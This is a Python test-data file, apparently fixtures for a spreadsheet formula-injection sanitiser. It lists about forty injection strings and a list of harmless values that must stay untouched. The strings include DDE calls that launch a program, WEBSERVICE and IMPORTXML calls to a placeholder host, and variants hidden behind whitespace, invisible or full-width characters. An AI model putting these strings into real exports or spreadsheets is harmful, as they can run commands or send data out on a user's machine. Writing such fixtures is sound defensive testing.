"""Forty texts that some spreadsheet program would calculate, and what must be left alone."""

PAYLOADS = [
    # plain formulas, and calls to programs and addresses
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://example.test","x")', "=2+5+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.test/",A1),"//a")', '=WEBSERVICE("http://example.test")', '=DDE("cmd";"/C calc")',
    "+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)", "@cmd|'/C calc'!A0",
    # behind tabs, line ends, spaces of several kinds and invisible signs
    "\t=1+1", "\r=1+1", "\n=1+1", "\nx", " =1+1", "  +1", "\u3000=1+1", "\u00a0-1", "\u200b=1+1", "\ufeff=1+1", "\u2060@A1",
    "\u202e=1+1", "\u00ad=1+1",
    # full-width and look-alike signs that some programs convert
    "＝1+1", "＋1", "－1", "＠A1", "\u2212" + "1+1",
    # quotes, and a second cell where the reader splits at something else
    '"=1+1"', "示例;=1+1", "示例\t=1+1", "示例\r\n=1+1", "'=1+1", "|calc", "%0A=1+1",
    # nothing but the sign
    "=", "@",
]  # fmt: skip

HARMLESS = [
    "示例机构",
    "A=B",
    "1-2",
    "a@b.test",
    "",
    "EZ-P-2025-0001",
    "（虚构）",
    "2025-04-30",
    "it's",
    "50%",
    "甲；乙",
]
